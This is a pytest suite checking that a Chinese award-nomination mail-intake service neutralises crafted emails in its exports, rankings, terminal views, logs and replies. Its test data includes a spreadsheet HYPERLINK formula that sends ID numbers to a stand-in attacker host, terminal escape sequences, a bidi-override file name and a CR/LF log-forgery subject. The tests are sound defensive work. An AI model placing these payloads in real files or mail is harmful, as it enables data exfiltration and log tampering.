"""Mail text stays inert wherever it goes (issue 18): crafted mails through the real service.

`intake poll --once` over a real Dovecot and SMTP server files what an attacker would send: a
form whose fields are spreadsheet formulas (`=HYPERLINK(…)` reading the ID column), a form
typed as text with ESC and BEL in the name and a right-to-left override in a file name, a
200-character name with a 300-character photo name, and a subject whose encoded-word holds
CR/LF and a forged log entry. Then the staff tools that show that text: the export, a
district's forward, Wuhan's ranking, `review show`, `review list`, the logs and the replies.
"""

from __future__ import annotations

import base64
import email
import io
import re
import shutil
import subprocess
import zipfile
from datetime import datetime
from email import policy
from pathlib import Path
from types import SimpleNamespace

import pytest

from testing.builders import forms
from testing.builders.forms import FormValues
from testing.builders.submission import SHANGHAI, nomination_mail, photo_jpeg
from testing.idcards import id_number
from testing.service import INTAKE, intake, records, write_config
from testing.smtp_server import SmtpServer

ARRIVED = datetime(2017, 4, 20, 10, 0, tzinfo=SHANGHAI)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2&I2,"点击查看详情")'  # column I: the ID numbers
FORMULAS = {"employer": HYPERLINK, "position": "＝1+1", "skill_level": "@SUM(1,2)", "honors": "+1", "unit_opinion": "-2+3"}
FORGED = "### M999 2017-04-20 10:00 forged@example.cn：受理"
LONG_NAME = "王" * 200  # 600 bytes of UTF-8: no file system takes it as a name
LONG_PHOTO = "现场" + "很" * 298 + ".jpg"
BIDI_PHOTO = "工作照\u202e1gpj.jpg"  # shows as 工作照gpj.1 … in a bidi-aware view
CONTROL_NAME = "张\x1b[31m三\x07"
ESCAPES = ("\x1b", "\x07", "\u202e")


def _files(values: FormValues, photos: list[tuple[str, bytes]] | None = None) -> list[tuple[str, bytes]]:
    photos = photos or [(f"照片{i}.jpg", photo_jpeg(i + len(values.name), size=(96, 72))) for i in range(4)]
    return [("推荐表.docx", forms.bayu_form_docx(values)), ("事迹材料.docx", forms.writeup_docx(900)), *photos]


def text_form(name: str, number: str) -> bytes:
    """A form typed as plain text: the reader takes it, and a .txt carries any control character."""
    return (f"2017年度“巴渝工匠”推荐表\n姓名：{name}\n性别：男\n身份证号码：{number}\n联系电话：13812345678\n"
            "工作单位：重庆建工\n岗位/工种：焊工\n").encode("utf-8")


def encoded_subject(raw: bytes, subject: str) -> bytes:
    """The mail with its subject as one UTF-8 encoded-word, CR and LF inside it as the attacker wrote them."""
    word = "=?UTF-8?B?" + base64.b64encode(subject.encode("utf-8")).decode("ascii") + "?="
    return raw.replace(b"Subject: PLACEHOLDER", b"Subject: " + word.encode("ascii"))


def _mail(tag: str, files, subject: str = "PLACEHOLDER", body: str = "您好，附件是推荐材料。") -> bytes:
    raw = nomination_mail(files, message_id=f"<{tag}@unit.example.cn>", sender=f"单位 <{tag}@unit.example.cn>",
                          subject="PLACEHOLDER", body=body)
    return encoded_subject(raw, subject if subject != "PLACEHOLDER" else "巴渝工匠推荐材料")


FORMULA = FormValues(name="钱二", id_number=id_number(sequence="201"), **FORMULAS)
MAIL = {
    "formula": _mail("formula", _files(FORMULA)),
    "controls": _mail("controls", [("推荐表.txt", text_form(CONTROL_NAME, id_number(sequence="202"))),
                                   ("事迹材料.docx", forms.writeup_docx(900)),
                                   (BIDI_PHOTO, photo_jpeg(5, size=(96, 72)))],
                      subject="推荐\x1b]0;pwned\x07材料"),
    "long": _mail("long", _files(FormValues(name=LONG_NAME, id_number=id_number(sequence="203")),
                                 [(f"照片{i}.jpg", photo_jpeg(30 + i, size=(96, 72))) for i in range(3)]
                                 + [(LONG_PHOTO, photo_jpeg(40, size=(96, 72)))])),
    "forged": _mail("forged", _files(FormValues(name="孙七", id_number=id_number(sequence="204"))),
                    subject=f"推荐材料\r\n{FORGED}\r\n- 主题：伪造"),
    "question": _mail("question", [], subject="请问\x1b[2J截止时间", body="请问\x1b[2J截止时间是哪天？\x07"),
}


@pytest.fixture(scope="module")
def polled(tmp_path_factory, dovecot):
    folder = tmp_path_factory.mktemp("abuse-inert")
    box = dovecot.add_user()
    for raw in MAIL.values():
        box.append(raw, internaldate=ARRIVED)
    with SmtpServer() as smtp:
        output = intake(write_config(folder, box, smtp, extra=log_file(folder)), "poll", "--once").stdout
        assert "登记 5 封" in output
        return SimpleNamespace(box=box, data=folder / "data", output=output, replies=list(smtp.messages))


def log_file(folder: Path) -> str:
    """The service's log also in a file (by default it goes to stderr only, for journald)."""
    return f'\n[log]\nfile = "{folder / "data" / "logs" / "intake.log"}"\n'


@pytest.fixture
def filed(polled, tmp_path):
    """This test's own copy of the poll's records and raw mail."""
    shutil.copytree(polled.data, tmp_path / "data")
    with SmtpServer() as smtp:
        yield SimpleNamespace(config=write_config(tmp_path, polled.box, smtp, extra=log_file(tmp_path)),
                              data=tmp_path / "data")


def nominee(config: Path, tag: str):
    messages, nominees, _ = records(config)
    [message] = [m for m in messages if m.message_id == f"<{tag}@unit.example.cn>"]
    return next(n for n in nominees if n.message_id == message.id)


# --- spreadsheets ------------------------------------------------------------------------------------


def formula_cells(workbook: bytes) -> list[str]:
    """What Excel or WPS would evaluate: a `<f>` element in any sheet's XML, or a cell openpyxl reads
    as a formula; and every cell that starts like one but lacks the quote prefix."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        found = [f"{name}: <f>" for name in package.namelist()
                 if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", package.read(name))]
    for sheet in load_workbook(io.BytesIO(workbook)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}")
                elif isinstance(cell.value, str) and cell.value[:1] in "=+-@＝" and not cell.quotePrefix:
                    found.append(f"{sheet.title}!{cell.coordinate} has no quote prefix: {cell.value}")
    return found


def cell_texts(workbook: bytes) -> set[str]:
    from openpyxl import load_workbook

    return {c.value for s in load_workbook(io.BytesIO(workbook)).worksheets for r in s.iter_rows() for c in r
            if isinstance(c.value, str)}


def test_no_cell_of_the_export_is_a_formula_from_mail(filed, tmp_path):
    intake(filed.config, "export", "-o", str(tmp_path / "out"))
    workbook = (tmp_path / "out" / "chongqing-bayu-2017-名单.xlsx").read_bytes()
    assert HYPERLINK in cell_texts(workbook) and "=1+1" in cell_texts(workbook)  # there, as text
    assert formula_cells(workbook) == []
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        assert b'quotePrefix="1"' in package.read("xl/styles.xml")


def test_export_survives_control_characters_and_a_200_character_name(filed, tmp_path):
    result = intake(filed.config, "export", "-o", str(tmp_path / "out"), check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    names = cell_texts((tmp_path / "out" / "chongqing-bayu-2017-名单.xlsx").read_bytes())
    assert "张[31m三" in names and not any(c in "".join(names) for c in ESCAPES)
    long = nominee(filed.config, "long")
    [folder] = [p for p in (tmp_path / "out" / "已受理材料").iterdir() if p.name.startswith(long.intake_number)]
    assert folder.name.startswith(f"{long.intake_number}-王王王") and len(folder.name.encode()) <= 200
    files = sorted(p.name for p in folder.iterdir())
    assert len(files) == 6 and all(len(name.encode()) <= 200 for name in files)
    assert any(name.endswith("-推荐表.docx") for name in files) and any(name.endswith("-照片4.jpg") for name in files)


def test_no_cell_of_a_district_forward_is_a_formula_from_mail(tmp_path, mailbox, smtp_server):
    mailbox.append(_mail("formula", _files(FORMULA)), internaldate=ARRIVED)
    config = write_config(tmp_path, mailbox, smtp_server)
    config.write_text(config.read_text(encoding="utf-8").replace('"chongqing-bayu-2017"', '"shapingba-bayu-2017"'),
                      encoding="utf-8")
    intake(config, "poll", "--once")
    intake(config, "forward")
    [written] = (tmp_path / "data" / "forward").glob("*.eml")
    message = email.message_from_bytes(written.read_bytes(), policy=policy.default)
    [sheet] = [p.get_content() for p in message.iter_attachments() if p.get_filename().endswith(".xlsx")]
    assert HYPERLINK in cell_texts(sheet)
    assert formula_cells(sheet) == []


def test_no_cell_of_the_wuhan_ranking_is_a_formula_from_mail(tmp_path, mailbox, smtp_server):
    values = FormValues(name="陈一", id_number=id_number(region="420102", sequence="001"), channel="基层单位推荐",
                        unit_category="委办局及大型企事业单位", recommending_unit="+中建三局", employer=HYPERLINK)
    mailbox.append(nomination_mail([("陈一-申报表.docx", forms.wuhan_form_docx(values))], to="2942292164@qq.com",
                                   sent=datetime(2018, 8, 20, 10, 0, tzinfo=SHANGHAI)),
                   internaldate=datetime(2018, 8, 20, 10, 0, tzinfo=SHANGHAI))
    config = write_config(tmp_path, mailbox, smtp_server)
    config.write_text(config.read_text(encoding="utf-8").replace('"chongqing-bayu-2017"', '"wuhan-dacheng-2018"'),
                      encoding="utf-8")
    intake(config, "poll", "--once")
    (tmp_path / "experts.csv").write_text("受理编号,专家评分\nDCGJ-2018-0001,90\n", encoding="utf-8")
    (tmp_path / "votes.csv").write_text("受理编号,票数\nDCGJ-2018-0001,10\n", encoding="utf-8")
    intake(config, "rank", "--experts", str(tmp_path / "experts.csv"), "--votes", str(tmp_path / "votes.csv"),
           "-o", str(tmp_path / "ranking.xlsx"))
    ranking = (tmp_path / "ranking.xlsx").read_bytes()
    assert HYPERLINK in cell_texts(ranking) and "+中建三局" in cell_texts(ranking)
    assert formula_cells(ranking) == []


# --- terminals, logs and replies ---------------------------------------------------------------------


def test_review_show_survives_control_characters_and_a_300_character_file_name(filed):
    shown = intake(filed.config, "review", "show", str(nominee(filed.config, "controls").id)).stdout
    assert "张[31m三" in shown and "工作照1gpj.jpg" in shown
    assert not any(c in shown for c in ESCAPES)
    long = nominee(filed.config, "long")
    result = intake(filed.config, "review", "show", str(long.id), check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    written = {p.name for p in (filed.data / "review" / str(long.id)).iterdir()}
    [photo] = [name for name in written if name.startswith("现场很很")]
    assert photo.endswith(".jpg") and len(photo.encode()) <= 200


def test_review_list_and_the_poll_show_no_escape_sequence(polled, filed):
    listed = intake(filed.config, "review", "list").stdout
    assert "请问[2J截止时间" in listed
    for output in (listed, polled.output, intake(filed.config, "status").stdout):
        assert not any(c in output for c in ESCAPES)


def test_a_subject_cannot_forge_a_log_entry(polled, filed, tmp_path):
    """The encoded-word's CR/LF would start a line `### M999 … 受理` in each log."""
    (tmp_path / "forged.eml").write_bytes(MAIL["forged"])
    checked = subprocess.run([*INTAKE, "check", str(tmp_path / "forged.eml"), "--campaign", "chongqing-bayu-2017",
                              "--format", "text"], capture_output=True, text=True, timeout=300)
    logs = {"poll": polled.output, "intake log": intake(filed.config, "log", "--date", "2017-04-20").stdout,
            "service log": (filed.data / "logs" / "intake.log").read_text(encoding="utf-8"), "check": checked.stdout}
    for name, text in logs.items():
        assert not any(line.startswith("### M999") for line in text.splitlines()), name
        assert any(f"推荐材料 {FORGED}" in line for line in text.splitlines()), name  # on the subject's own line


def test_replies_echo_subjects_and_file_names_on_one_line_without_controls(polled):
    for received in polled.replies:
        message = email.message_from_bytes(received.content, policy=policy.default)
        body = message.get_body(("plain",)).get_content()
        for text in (str(message["Subject"]), body):
            assert not any(c in text for c in ESCAPES)
            assert not any(line.startswith("### M999") for line in text.splitlines())
    bodies = "".join(email.message_from_bytes(r.content, policy=policy.default).get_body(("plain",)).get_content()
                     for r in polled.replies)
    assert "工作照1gpj.jpg" in bodies and f"推荐材料 {FORGED}" in bodies
